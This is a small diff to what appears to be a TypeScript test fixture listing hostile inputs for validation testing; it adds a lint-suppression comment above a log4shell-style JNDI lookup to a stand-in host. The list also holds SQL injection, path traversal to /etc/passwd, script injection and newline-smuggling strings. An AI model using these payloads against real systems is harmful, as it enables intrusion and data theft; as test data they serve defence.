@@ -36,6 +36,7 @@ const HOSTILE: readonly unknown[] = [
   "'; DROP TABLE instances; --",
   '../../../etc/passwd',
   '<script>alert(1)</script>',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell-style payload, meant literally
   '${jndi:ldap://evil/x}',
   '\u0000\u0001\u001b[31m',
   'i-0123456789abcdef0\n',
